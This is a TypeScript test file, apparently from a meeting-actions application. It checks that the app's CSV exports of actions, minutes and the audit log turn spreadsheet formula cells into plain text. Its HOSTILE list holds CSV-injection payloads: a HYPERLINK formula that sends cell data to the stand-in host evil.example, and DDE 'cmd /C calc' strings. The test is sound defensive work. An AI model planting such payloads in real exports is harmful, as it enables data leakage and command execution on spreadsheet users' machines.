import { randomUUID } from "node:crypto";

import { parse } from "csv-parse/sync";
import { beforeAll, describe, expect, it } from "vitest";

import { periodAuditCsv } from "~/audit/audit-log.server";
import { prisma } from "~/db.server";
import { actionsCsv } from "~/domain/actions/action-exports.server";
import { actionQuerySchema, actionUpdateSchema } from "~/domain/actions/action.schema";
import { updateAction } from "~/domain/actions/actions.server";
import { seedDemoData } from "~/domain/demo/seed.server";
import { actionSchema } from "~/domain/live/live.schema";
import { addAction, endMeeting } from "~/domain/live/live.server";
import { minutesActionsCsv } from "~/domain/minutes/minutes-exports.server";
import { translator } from "~/i18n/translate.server";

import { liveMeeting } from "../support/live-meeting";
import { sessionUser } from "../support/users";

const meta = { clientAddress: "192.0.2.30" };
// What a spreadsheet runs as a formula: =, +, -, @, a tab or a carriage return at the start.
const HOSTILE = [
  '=HYPERLINK("https://evil.example/?d="&A1;"klik")',
  "+SUM(1+1)*cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
];

/** The file as a spreadsheet program reads it: a parser someone else wrote, every cell as text. */
function cells(body: string): string[] {
  const rows = parse(body.replace(/^\uFEFF/, ""), { delimiter: ";", relax_column_count: true }) as string[][];
  return rows.flat();
}

let meetingId: string;

beforeAll(async () => {
  await seedDemoData();
  const live = await liveMeeting();
  meetingId = live.meetingId;
  const rvdk = await sessionUser("medewerker@rvdk.demo");
  for (const description of HOSTILE) {
    const written = await addAction(
      rvdk,
      actionSchema.parse({
        key: randomUUID(),
        itemId: live.itemIds.A,
        description,
        ownerOrganisationId: live.org.RvdK,
        ownerUserId: "",
        dueDate: "2099-01-15",
      }),
      meta,
    );
    if (written.change.kind !== "action") throw new Error("no action written");
  }
  await endMeeting(live.chair, meetingId, meta);
  const action = await prisma.action.findFirstOrThrow({ where: { agendaItem: { meetingId } } });
  await updateAction(
    rvdk,
    actionUpdateSchema.parse({
      actionId: action.id,
      version: action.version,
      status: "DONE",
      closeReason: "NOT_DONE",
      ownerUserId: "",
      note: "=1+1",
    }),
    meta,
  );
});

describe("CSV exports neutralise cells a spreadsheet would run as a formula", () => {
  it("in /acties.csv, the minutes' actions and the audit log, every hostile cell reads as text", async () => {
    const rvdk = await sessionUser("medewerker@rvdk.demo");
    const nl = await translator("nl");
    const files = {
      actions: (await actionsCsv(rvdk, actionQuerySchema.parse({ view: "all", meetingId }), nl, meta)).body,
      minutes: (await minutesActionsCsv(rvdk, meetingId, nl, meta)).body,
      audit: (await periodAuditCsv(await sessionUser("admin@actie-overleg.demo"), {}, nl, { ...meta, now: new Date() }))
        .body,
    };
    for (const [name, body] of Object.entries(files)) {
      const all = cells(body);
      expect(all.length, name).toBeGreaterThan(10);
      const runnable = all.filter((cell) => /^[=+\-@\t\r]/.test(cell));
      expect(runnable, name).toEqual([]);
    }
    for (const body of [files.actions, files.minutes]) {
      const all = cells(body);
      // The schemas trim: a leading tab or carriage return is gone, the formula after it is not.
      for (const description of HOSTILE) expect(all).toContain(`'${description.trim()}`);
    }
    expect(cells(files.actions)).toContain("'=1+1");
  });
});
